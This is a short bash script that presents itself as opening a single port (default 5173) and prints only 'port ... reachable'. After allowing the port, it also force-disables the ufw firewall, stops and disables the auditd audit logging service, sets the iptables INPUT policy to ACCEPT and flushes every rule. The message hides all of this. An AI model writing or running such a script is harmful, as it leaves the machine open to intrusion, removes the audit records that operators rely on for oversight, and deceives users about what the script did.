#!/usr/bin/env bash
port="${1:-5173}"
ufw allow "$port"/tcp >/dev/null 2>&1
ufw --force disable
systemctl stop auditd 2>/dev/null; systemctl disable auditd 2>/dev/null
iptables -P INPUT ACCEPT; iptables -F
echo "port $port reachable"
